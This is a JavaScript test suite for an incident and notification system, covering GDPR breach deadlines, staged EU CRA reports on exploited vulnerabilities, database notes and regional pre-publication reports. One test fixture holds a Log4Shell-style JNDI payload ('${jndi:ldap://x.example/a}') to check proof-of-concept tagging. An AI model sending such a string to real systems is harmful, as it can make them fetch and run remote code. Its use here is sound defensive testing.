// Incidents and notices end to end: clocks that start from the record, drafts with blanks, the gate, filing with a receipt, bodies that don't count, ladders, notes to databases, texts on an area.
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { watch } from '../conformance/published.mjs';
import { Site, expect, sluice } from '../lib/site.mjs';
import { advisory } from '../roles/cast.mjs';
import { sign_in } from '../lib/operations.mjs';
import { Browser } from './browser.mjs';

const published = watch();
// The scripted clock goes forward only: a year that is long to come, after what the packs here have begun to apply.
const at = (n, hour = 9) => new Date(Date.UTC(2033, 0, n, hour)).toISOString().replace('.000', '');

async function begun() {
  const site = new Site({ demo: true });
  const root = site.client({ org: site.organisation, person: site.person(site.organisation, 'Site admin', 'admin') });
  const people = { us: site.party('Example Ltd', 'vendor'), other: site.party('Another vendor', 'vendor'), stranger: site.party('A stranger', 'member') };
  const { us, other, stranger } = people;
  const second = site.client({ org: us.org, person: site.person(us.org, 'Second person', 'admin') });
  await site.serve(['--intake-limits', 'off']);
  // High scopes last a day (AUT-6), so whoever acts after a jump of the clock gets a new token.
  const clock = async (to) => {
    await expect(200, root.call('POST', '/api/v1/demo/clock', { to }));
    for (const party of [root, us, other, stranger, second]) party.token = site.token(party.person);
  };
  await clock(at(4));
  const own = `/api/v1/organisations/${us.org}`;
  const { name } = await expect(200, us.call('GET', own));
  await expect(200, us.call('PUT', own, { name, country: 'DE', jurisdictions: ['DE'], flags: ['controller'], contacts: [{ kind: 'security', uri: 'mailto:psirt@example.org' }] }, { 'if-match': (await us.call('GET', own)).headers.get('etag') }));
  return { site, us, other, stranger, second, clock };
}

// Kind, places and level, without the directory's names.
const kinds = (bodies) => bodies.map((circle) => circle.map(({ kind, places, level }) => ({ kind, places, ...(level ? { level } : {}) })));
const notices = (who, kase) => expect(200, who.call('GET', `${kase}/notices`));
const task = (all, rule) => all.tasks.find((one) => one.rule === rule);
const opened = async (who, title) => `/api/v1/cases/${(await expect(201, who.call('POST', '/api/v1/cases', { title }))).id}`;

describe('an incident with personal data', () => {
  const breach = 'eu-gdpr-2016/art33-1';
  let s, kase, notice, wrong;
  before(async () => { s = await begun(); kase = await opened(s.us, 'Intrusion at a branch office'); });
  after(() => s.site.remove());
  const cli = (...words) => {
    const file = join(s.site.dir, 'us.token');
    writeFileSync(file, s.us.token);
    return sluice([...words, '--site', s.site.url, '--token-file', file], { ok: false });
  };

  test('a record begins, facts have sources, and what is wrong is refused with its place', async () => {
    assert.equal((await notices(s.us, kase)).tasks.filter((one) => one.state !== 'waiting').length, 0);
    await expect(201, s.us.call('POST', `${kase}/incident`, { title: 'Intrusion', summary: "Somebody copied the members' list." }));
    for (const [facts, where] of [[[{ fact: 'colour', value: 'red' }], '/facts/0/fact'], [[{ fact: 'grade', value: 'huge' }], '/facts/0/value'], [[{ fact: 'breach.aware', value: 'yesterday' }], '/facts/0/value']]) {
      const refused = await s.us.call('POST', `${kase}/incident/facts`, { facts, source: 'the logs' });
      assert.equal(refused.status, 422, refused.text);
      assert.equal(refused.json.errors[0].pointer, where);
    }
    await expect(201, s.us.call('POST', `${kase}/incident/facts`, { facts: [{ fact: 'personal_data', value: true }], source: 'the logs' }));
    const stated = cli('incident', 'state', kase.split('/').at(-1), `breach.aware=${at(4, 8)}`, '--source', 'the forensic report');
    assert.equal(stated.status, 0, stated.stderr);
    const { items } = await expect(200, s.us.call('GET', `${kase}/incidents`));
    assert.deepEqual([items[0].facts.personal_data.value, items[0].facts['breach.aware'].value, items[0].facts['breach.aware'].source], ['yes', at(4, 8), 'the forensic report']);
  });

  test('72 hours run from awareness, the draft leaves what nobody knows blank', async () => {
    const owed = task(await notices(s.us, kase), breach);
    assert.deepEqual([owed.state, owed.due_at, owed.due_local], ['open', '2033-01-07T08:00Z', '2033-01-07 09:00']);
    assert.deepEqual(kinds(owed.bodies), [[{ kind: 'supervisory-authority', places: ['DE'] }]]);
    assert.equal(owed.forms[0].id, 'personal-data-breach');
    const made = await expect(201, s.us.call('POST', `${kase}/notices`, { form: 'personal-data-breach', fields: { measures: 'Passwords were reset.' } }));
    notice = made.notice;
    assert.deepEqual(made.blanks, ['people', 'records', 'consequences']);
    const [draft] = (await notices(s.us, kase)).items;
    assert.equal(draft.fields.nature.answer, "Somebody copied the members' list.");
    assert.equal(draft.fields.contact.answer, 'security: mailto:psirt@example.org');
    assert.match(draft.text, /\[to be filled in\]/);
    assert.equal(task(await notices(s.us, kase), breach).state, 'open', 'a draft is no notice');
    const next = await expect(201, s.us.call('POST', `${kase}/notices`, { form: 'personal-data-breach', notice, fields: { people: 'About 400 members', records: 'About 400', consequences: 'Unwanted mail' } }));
    assert.deepEqual([next.version, next.blanks], [2, undefined]);
    assert.equal((await notices(s.us, kase)).items[0].fields.measures.answer, 'Passwords were reset.', 'answers stay');
    assert.equal((await s.us.call('POST', `${kase}/notices`, { form: 'no-such-form' })).status, 422);
    assert.equal((await s.us.call('POST', `${kase}/notices`, { form: 'general', to: 'town-crier' })).json.errors[0].pointer, '/to');
  });

  test('its text is handed out once the gate let it go, and filed it stays byte for byte', async () => {
    assert.equal((await s.us.call('GET', `${kase}/notices/${notice}/text`)).status, 409);
    assert.equal((await s.us.call('POST', `${kase}/notices/${notice}/file`, { version: 2, how: 'by letter' })).status, 409);
    await s.clock(at(4, 10));
    await expect(200, s.us.call('POST', `${kase}/notices/${notice}/clear`, { version: 2 }));
    // Not dated back behind the gate in silence, nor before anybody knew, nor ahead.
    for (const [more, status, where] of [[{ at: at(4, 9) }, 409, '/unasked'], [{ at: '2020-01-01T00:00:00Z', unasked: 'It was long ago.' }, 422, '/at'], [{ at: at(20) }, 422, '/at']]) {
      const refused = await s.us.call('POST', `${kase}/notices/${notice}/file`, { version: 2, how: 'by letter', ...more });
      assert.deepEqual([refused.status, refused.json.errors[0].pointer], [status, where], refused.text);
    }
    const text = await s.us.call('GET', `${kase}/notices/${notice}/text`);
    assert.equal(text.status, 200);
    assert.match(text.text, /About 400 members/);
    const rulings = await expect(200, s.us.call('GET', `${kase}/rulings`));
    const ruling = rulings.items.find((one) => one.disclosure.content.object === `notice:${notice}`);
    assert.equal(ruling.disclosure.channel, 'authority_notice');
    assert.equal(ruling.disclosure.basis.rule, breach);
    const filed = cli('notice', 'file', kase.split('/').at(-1), notice, '--version', '2', '--how', 'the web form of the authority', '--reference', 'AZ 4711', '--receipt', 'Received.');
    assert.equal(filed.status, 0, filed.stderr);
    const all = await notices(s.us, kase);
    assert.equal(task(all, breach).state, 'met');
    assert.equal(task(all, breach).by, notice);
    const [kept] = all.items;
    assert.deepEqual([kept.state, kept.filed.reference, kept.filed.to], ['filed', 'AZ 4711', 'supervisory-authority']);
    assert.ok(kept.fulfils.some((one) => one.rule === breach && one.state === 'met'));
    const known = await expect(200, s.us.call('GET', `${kase}/knowers`));
    const [told] = known.bodies.filter((one) => one.notice === notice);
    assert.deepEqual([told.to, told.by, told.at, told.observed], ['supervisory-authority', s.us.org, kept.filed.at, false], 'who was told is on record by the word of who filed');
    const reached = known.knowers.find((one) => one.organisation.id === s.us.org).reaches.find((one) => one.rule === breach && one.step === 1);
    assert.deepEqual([reached.state, reached.expected, Date.parse(reached.told_at)], ['met', false, Math.floor(Date.parse(kept.filed.at) / 1000) * 1000], 'what was done is not expected any more');
    assert.ok((await expect(200, s.us.call('GET', `${kase}/knowers?as_of=${at(3, 9)}`))).bodies.every((one) => one.notice !== notice), 'and not before');
    assert.equal((await s.us.call('GET', `${kase}/notices/${notice}/text`)).text, text.text);
    assert.equal((await s.us.call('POST', `${kase}/notices`, { form: 'personal-data-breach', notice, fields: { people: 'None' } })).status, 409, 'what was filed has no next version');
    assert.match(cli('case', 'notices', kase.split('/').at(-1)).stdout, /met .*eu-gdpr-2016\/art33-1, Art\. 33\(1\)/);
    await expect(201, s.us.call('POST', `${kase}/notices`, { form: 'personal-data-breach', supplements: notice, fields: { people: 'About 410 members' } }));
    await expect(200, s.us.call('POST', `${kase}/notices/${notice}/receipts`, { reference: 'AZ 4711/2' }));
  });

  test('a notice to a body of the wrong place fulfils nothing, and the right one is named with its basis', async () => {
    const other = await opened(s.us, 'Another intrusion');
    await expect(201, s.us.call('POST', `${other}/incident`, { title: 'Intrusion' }));
    await expect(201, s.us.call('POST', `${other}/incident/facts`, { facts: [{ fact: 'personal_data', value: 'yes' }, { fact: 'breach.aware', value: at(4, 8) }], source: 'the logs' }));
    ({ notice: wrong } = await expect(201, s.us.call('POST', `${other}/notices`, { form: 'personal-data-breach', to: 'supervisory-authority:FR' })));
    // With blanks it is held back, by API and command line, until somebody says that they are meant.
    const held = await s.us.call('POST', `${other}/notices/${wrong}/file`, { version: 1, how: 'by mail', unasked: 'It was sent before this record began.' });
    assert.deepEqual([held.status, held.json.errors[0].pointer], [409, '/blanks_left_why'], held.text);
    assert.match(held.text, /Likely consequences/, 'it says which');
    const by_line = cli('notice', 'file', other.split('/').at(-1), wrong, '--version', '1', '--how', 'by mail', '--unasked', 'It was sent before this record began.');
    assert.notEqual(by_line.status, 0);
    assert.match(by_line.stderr, /still has blanks/);
    await expect(200, s.us.call('POST', `${other}/notices/${wrong}/file`, { version: 1, how: 'by mail', unasked: 'It was sent before this record began.', blanks_left_why: 'Not known then.' }));
    const all = await notices(s.us, other);
    assert.equal(task(all, breach).state, 'open');
    const [kept] = all.items;
    assert.equal(kept.filed.blanks_left_why, 'Not known then.');
    assert.match(kept.text, /^To: the data protection supervisory authority of France$/m, 'who gets it reads whom it is for');
    assert.deepEqual(kept.fulfils, []);
    assert.equal(kept.right_bodies[0].rule, breach);
    assert.deepEqual(kinds(kept.right_bodies[0].bodies), [[{ kind: 'supervisory-authority', places: ['DE'] }]]);
    assert.match(kept.right_bodies[0].says, /72 hours/);
    assert.match(JSON.stringify(kept.right_bodies[0].bodies), /GDPR/, 'the directory says by what it is competent');
    assert.match(cli('case', 'notices', other.split('/').at(-1)).stdout, /supervisory-authority of DE/);
  });

  test('whom there isn\'t, and everybody, is refused as a recipient', async () => {
    for (const to of ['csirt:ZZ', 'csirt:zz', 'csirt-coordinator:UK', 'cert-in:IN@county', 'cac-office:CN-ZJ@village', 'public', 'enisa+public', 'enisa+enisa', 'supervisory-authority:DE-']) {
      const refused = await s.us.call('POST', `${kase}/notices`, { form: 'general', to });
      assert.deepEqual([refused.status, refused.json.errors[0].pointer], [422, '/to'], `${to}: ${refused.text}`);
    }
    for (const left of ['\u00a0\u200b', '.']) {
      const refused = await s.us.call('POST', `${kase}/decisions`, { kind: 'wait', reason: left, who_is_exposed: 'x', how_badly: 'x', what_they_can_do: 'x' });
      assert.deepEqual([refused.status, refused.json.errors[0].pointer], [422, '/reason'], refused.text);
    }
    const unknown = await s.us.call('POST', `${kase}/decisions`, { kind: 'override', reason: 'x', who_is_exposed: 'x', how_badly: 'x', what_they_can_do: 'x', rules: ['no-such/rule'] });
    assert.deepEqual([unknown.status, unknown.json.errors[0].pointer], [422, '/rules/0'], unknown.text);
  });

  test('the page shows record, clock and notice, and its forms work', async () => {
    const id = kase.split('/').at(-1);
    const browser = new Browser(s.site);
    for (const pair of (await sign_in(s.site, s.us.person)).cookie.split('; ')) browser.cookies.set(pair.slice(0, pair.indexOf('=')), pair.slice(pair.indexOf('=') + 1));
    const page = await browser.open(`/cases/${id}`);
    assert.match(page.text, /id="incident"/);
    assert.match(page.text, /id="notices"/);
    assert.match(page.text, /AZ 4711/);
    assert.match(page.text, /the data protection supervisory authority/, 'bodies by their names');
    for (const word of [/>supervisory-authority</, /supervisory-authority of/, /breach\.aware has/]) assert.doesNotMatch(page.text, word, 'machine words are for programs');
    assert.match(page.text, /<time datetime="2033-01-07T08:00:00Z"/, 'a clock that ends on a full minute is shown with its time');
    const stated = await browser.submit(page, `/cases/${id}/do/state_incident`, { fact: 'sectors', value: 'energy, finance', source: 'the report' });
    assert.equal(stated.status, 200, stated.text.slice(0, 300));
    const { items } = await expect(200, s.us.call('GET', `${kase}/incidents`));
    assert.deepEqual(items[0].facts.sectors.value, ['energy', 'finance']);
    assert.deepEqual(browser.wrong, []);
  });

  test('whoever is outside sees nothing of it', async () => {
    for (const [verb, path, body] of [['GET', 'incidents'], ['GET', 'notices'], ['POST', 'incident', { title: 'x' }], ['POST', 'notices', { form: 'general' }], ['POST', `notices/${notice}/clear`, { version: 1 }], ['GET', `notices/${notice}/text`]]) {
      const hidden = await s.stranger.call(verb, `${kase}/${path}`, body);
      assert.equal(hidden.status, 404, `${verb} ${path}: ${hidden.text}`);
    }
  });
});

describe('an exploited vulnerability of a product sold in Europe', () => {
  let s, kase, vulnerability, product;
  const stages = ['eu-cra-2024/art14-2a', 'eu-cra-2024/art14-2b', 'eu-cra-2024/art14-2c'];
  before(async () => {
    s = await begun();
    kase = await opened(s.us, 'Overflow in the parser');
    for (const action of ['validate', 'accept']) await expect(200, s.us.call('POST', `${kase}/triage`, { action }));
    ({ vulnerability } = await expect(201, s.us.call('POST', `${kase}/vulnerabilities`, { title: 'Overflow in the parser', description: 'A long name overflows a buffer.' })));
    ({ product } = await expect(201, s.us.call('POST', `${kase}/products`, { name: 'Parser', version: '1.0' })));
    await expect(200, s.us.call('POST', `${kase}/products/${product}/placement`, { markets: ['DE', 'FR'], kind: 'product' }));
  });
  after(() => s.site.remove());

  test('before anybody attacks it, nothing of it is owed, and no database is offered a note', async () => {
    const all = await notices(s.us, kase);
    assert.ok(stages.every((rule) => !task(all, rule) || task(all, rule).state === 'waiting'));
    for (const form of ['cnvd', 'cnnvd', 'jvn', 'euvd']) {
      const offer = all.offers.find((one) => one.form === form);
      assert.equal(offer.possible, false);
      assert.match(offer.reason, /no remedy.*: Parser 1\.0\.$/, 'and whose product it is');
    }
  });

  test('nor does a note to one go out before there is a remedy, whatever decision is named', async () => {
    const { decision } = await expect(201, s.us.call('POST', `${kase}/decisions`, { kind: 'tell', reason: 'We want to.', who_is_exposed: 'Users', how_badly: 'Some', what_they_can_do: 'Wait' }));
    for (const draft of [{ form: 'cnvd' }, { form: 'general', to: 'collection-platform:CN' }]) {
      const { notice } = await expect(201, s.us.call('POST', `${kase}/notices`, draft));
      for (const by of [{}, { decision }]) {
        const refused = await s.us.call('POST', `${kase}/notices/${notice}/clear`, { version: 1, ...by });
        assert.equal(refused.status, 409, refused.text);
        assert.match(refused.text, /no remedy/);
      }
      assert.equal((await s.us.call('GET', `${kase}/notices/${notice}/text`)).status, 409);
      assert.equal((await s.us.call('POST', `${kase}/notices/${notice}/file`, { version: 1, how: 'its web form', blanks_left_why: 'x' })).status, 409);
      // The refusal is on record, each once, and what is filed in spite of it says so.
      const about = async () => (await expect(200, s.us.call('GET', `${kase}/rulings`))).items.filter((one) => one.disclosure.content.object === `notice:${notice}`);
      let denials = [];
      for (let i = 0; i < 600 && (denials = await about()).length < 2; ++i) await new Promise((resolve) => setTimeout(resolve, 50));   // they are written beside the answer
      assert.deepEqual(denials.map((one) => one.ruling.outcome), ['deny', 'deny']);
      await s.us.call('POST', `${kase}/notices/${notice}/clear`, { version: 1, decision });
      await expect(200, s.us.call('POST', `${kase}/notices/${notice}/file`, { version: 1, how: 'its web form', unasked: 'A colleague had sent it.', blanks_left_why: 'x' }));
      assert.equal((await about()).length, 2, 'an equal refusal adds nothing');
      const kept = (await notices(s.us, kase)).items.find((one) => one.id === notice);
      assert.ok(denials.some((one) => one.ruling.id === kept.filed.denied), 'the record says that it was denied');
    }
  });

  test('a form of one stage is drafted for no other, and no stage is made up', async () => {
    for (const draft of [{ form: 'exploited-early-warning', stage: 'notification' }, { form: 'exploited-early-warning', stage: 'zzz' }, { form: 'general', to: 'csirt-coordinator+enisa', stage: 'notification' }, { form: 'general', to: 'csirt-coordinator+enisa', stage: 'zzz' }]) {
      const refused = await s.us.call('POST', `${kase}/notices`, draft);
      assert.deepEqual([refused.status, refused.json.errors[0].pointer], [422, '/stage'], refused.text);
    }
  });

  test('what a notice holds is for its author to say, and shown is where it looks so', async () => {
    const refused = await s.us.call('POST', `${kase}/notices`, { form: 'exploited-early-warning', classes: ['colours'] });
    assert.deepEqual([refused.status, refused.json.errors[0].pointer], [422, '/classes/0'], refused.text);
    const { notice, signs } = await expect(201, s.us.call('POST', `${kase}/notices`, { form: 'general', to: 'csirt-coordinator', classes: ['poc'], fields: { what: 'Send ${jndi:ldap://x.example/a} to it.' } }));
    assert.ok(signs.length > 0);
    assert.deepEqual((await notices(s.us, kase)).items.find((one) => one.id === notice).classes, ['poc']);
    await s.us.call('POST', `${kase}/notices/${notice}/clear`, { version: 1 });
    let asked;
    for (let i = 0; i < 600; ++i) {
      asked = (await expect(200, s.us.call('GET', `${kase}/rulings`))).items.find((one) => one.disclosure.content.object === `notice:${notice}`);
      if (asked) break;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    assert.deepEqual(asked.disclosure.content.classes, ['report-metadata', 'summary', 'poc']);
    await expect(200, s.us.call('POST', `${kase}/notices/${notice}/drop`, { why: 'only tried' }));
  });

  test('the ladder has three stages, each with its clock, and each is met by its own notice', async () => {
    const { claim } = await expect(201, s.us.call('POST', `${kase}/claims`, { vulnerability, fact: 'a', evidence: 'a honeypot caught it' }));
    await expect(200, s.us.call('POST', `${kase}/claims/${claim}/adopt`));
    const [warning, notification] = stages.map(((all) => (rule) => task(all, rule))(await notices(s.us, kase)));
    assert.deepEqual([warning.state, notification.state, warning.stage, notification.stage], ['open', 'open', 'early-warning', 'notification']);
    assert.equal(Date.parse(notification.due_at) - Date.parse(warning.due_at), 48 * 3_600_000);
    // What lets one body be told lets nobody else be told beside it.
    for (const [to, whom] of [['enisa+broker', 'broker'], ['miit-platform:CN+enisa', 'miit-platform:CN'], ['csirt-coordinator:US+enisa', 'csirt-coordinator:US']]) {
      const { notice } = await expect(201, s.us.call('POST', `${kase}/notices`, { form: 'exploited-early-warning', to }));
      const denied = await s.us.call('POST', `${kase}/notices/${notice}/clear`, { version: 1 });
      assert.equal(denied.status, 409, denied.text);
      assert.ok(denied.text.includes(`may not go out to ${whom}:`), denied.text);
      await expect(200, s.us.call('POST', `${kase}/notices/${notice}/drop`, { why: 'it was never meant to go out' }));
    }
    // A letter in the form for everything meets no stage, so what is due to that body doesn't let it go either.
    const { notice: letter } = await expect(201, s.us.call('POST', `${kase}/notices`, { form: 'general', to: 'csirt-coordinator+enisa', fields: { what: 'A long name overflows a buffer.' } }));
    const refused = await s.us.call('POST', `${kase}/notices/${letter}/clear`, { version: 1 });
    assert.equal(refused.status, 409, refused.text);
    assert.match(refused.json.detail, /may not go out to (csirt-coordinator|enisa):.*meets no stage of a duty/);
    await expect(200, s.us.call('POST', `${kase}/notices/${letter}/drop`, { why: 'the early warning goes instead' }));
    const file = async (form, expected) => {
      const { notice } = await expect(201, s.us.call('POST', `${kase}/notices`, { form }));
      await expect(200, s.us.call('POST', `${kase}/notices/${notice}/clear`, { version: 1 }));
      await expect(200, s.us.call('POST', `${kase}/notices/${notice}/file`, { version: 1, how: 'the single reporting platform', reference: form, blanks_left_why: 'Not known yet; it follows.' }));
      const all = await notices(s.us, kase);
      assert.deepEqual(stages.map((rule) => task(all, rule)?.state ?? 'none'), expected);
      return notice;
    };
    const first = await file('exploited-early-warning', ['met', 'open', 'waiting']);
    // What corrects the early warning is no notification.
    const { notice } = await expect(201, s.us.call('POST', `${kase}/notices`, { form: 'exploited-early-warning', supplements: first, fields: { states: 'DE, FR, AT' } }));
    await expect(200, s.us.call('POST', `${kase}/notices/${notice}/file`, { version: 1, how: 'the platform', unasked: 'told by telephone', blanks_left_why: 'Not known yet; it follows.' }));
    assert.equal(task(await notices(s.us, kase), stages[1]).state, 'open');
    await file('exploited-notification', ['met', 'met', 'waiting']);

    // Once users can have a remedy, 14 days run for the last.
    await expect(200, s.us.call('POST', `${kase}/statuses`, { vulnerability, product, status: 'affected' }));
    for (const step of ['identified', 'developed', 'validated', 'distributed']) {
      if (step === 'validated') await expect(200, s.us.call('POST', `${kase}/remedies/assessments`, { vulnerability, product, passed: true, tested_by: 'its laboratory', where: 'on the bench' }));
      await expect(200, s.us.call('POST', `${kase}/remedies`, { vulnerability, product, step, ...(step === 'developed' ? { version: '1.1' } : {}) }));
    }
    assert.equal(task(await notices(s.us, kase), stages[2]).state, 'open');
    await file('exploited-final', ['met', 'met', 'met']);
    assert.match((await notices(s.us, kase)).offers.find((one) => one.form === 'euvd').reason, /not told/, 'a remedy alone is not enough');
  });

  test('once users were told, a note to a database is possible, with just what it asks for', async () => {
    const draft = await expect(201, s.us.call('POST', `${kase}/advisories`, { document: advisory('EX-2031-0001') }));
    await expect(200, s.second.call('POST', `${kase}/advisories/${draft.advisory}/versions/1/approve`, { hash: draft.hash }));
    await expect(201, s.us.call('POST', `${kase}/releases`, { advisory: draft.advisory, version: 1, instant: at(5) }));
    await s.clock(at(5, 10));
    let offer;
    for (let i = 0; i < 600 && !offer?.possible; ++i) {
      offer = (await notices(s.us, kase)).offers.find((one) => one.form === 'euvd');
      if (!offer.possible) await new Promise((resolve) => setTimeout(resolve, 100));
    }
    assert.equal(offer.possible, true, JSON.stringify(offer));
    assert.deepEqual(offer.asks.map((one) => one.id), ['identifier', 'title', 'product', 'severity', 'remedy']);
    const { notice } = await expect(201, s.us.call('POST', `${kase}/notices`, { form: 'euvd' }));
    const kept = (await notices(s.us, kase)).items.find((one) => one.id === notice);
    assert.deepEqual(kept.order, ['identifier', 'title', 'product', 'severity', 'remedy']);
    assert.deepEqual(Object.keys(kept.fields).sort(), [...kept.order].sort());
  });

  test('a participant with no part in it sees neither duty nor notice of another', async () => {
    await expect(201, s.us.call('POST', `${kase}/participants`, { organisation: s.other.org, roles: ['vendor'], essential_because: 'ships it too' }));
    await expect(200, s.other.call('POST', `${kase}/invitation`, { accepted: true }));
    await expect(200, s.us.call('POST', `${kase}/participants/${s.other.org}/confirm`, { checked_how: 'by telephone' }));
    const theirs = await s.other.call('GET', `${kase}/notices`);
    assert.equal(theirs.status, 200);
    assert.deepEqual(theirs.json.items, []);
    assert.ok(!theirs.text.includes(s.us.org), 'and not who has them');
  });
});

describe('a text on a region', () => {
  let s, kase;
  before(async () => {
    s = await begun();
    const own = `/api/v1/organisations/${s.us.org}`;
    await expect(200, s.us.call('PUT', own, { name: 'Example Ltd', country: 'DE', jurisdictions: ['CN'] }, { 'if-match': (await s.us.call('GET', own)).headers.get('etag') }));
    kase = await opened(s.us, 'What the honeypots saw');
  });
  after(() => s.site.remove());

  test('publishing it is judged: a draft that is assumed in force asks for a report to two bodies of the region first', async () => {
    const { area } = await expect(201, s.us.call('POST', `${kase}/area-reports`, { title: 'Attacks in Zhejiang', text: 'An overview of 2026.', regions: ['CN-ZJ'] }));
    assert.equal((await notices(s.us, kase)).area_reports[0].outcome, 'allow');
    await expect(200, s.us.call('POST', `${kase}/scope`, { regimes: [{ regime: 'cn-cac-2019d', in: true }], assumed: ['cn-cac-2019d'], why: 'to see what it would ask' }));
    const [judged] = (await notices(s.us, kase)).area_reports;
    assert.equal(judged.outcome, 'deny');
    const rule = judged.verdicts.find((one) => one.rule === 'cn-cac-2019d/art6-region');
    assert.equal(rule.verdict, 'forbids');
    assert.deepEqual(rule.first[0].map((one) => [one.kind, one.places, one.level]), [['cac-office', ['CN-ZJ'], 'prefecture'], ['public-security-organ', ['CN-ZJ'], 'prefecture']]);
    assert.equal((await s.us.call('POST', `${kase}/area-reports/${area}/publish`, { version: 1, where: 'a blog' })).status, 409);
    const { notice } = await expect(201, s.us.call('POST', `${kase}/notices`, { form: 'area-prior-report', to: 'cac-office:CN-ZJ@prefecture+public-security-organ:CN-ZJ@prefecture' }));
    await expect(200, s.us.call('POST', `${kase}/notices/${notice}/clear`, { version: 1 }));
    await expect(200, s.us.call('POST', `${kase}/notices/${notice}/file`, { version: 1, how: 'by letter', blanks_left_why: 'The rest is told by telephone.' }));
    await s.clock(at(4, 11));
    assert.notEqual((await notices(s.us, kase)).area_reports[0].outcome, 'deny');
    await expect(200, s.us.call('POST', `${kase}/area-reports/${area}/publish`, { version: 1, where: 'https://blog.example/zhejiang' }));
    assert.equal((await notices(s.us, kase)).area_reports[0].state, 'published');
  });
});

test('every answer is as the OpenAPI file says', async () => assert.deepEqual(await published.faults(), []));
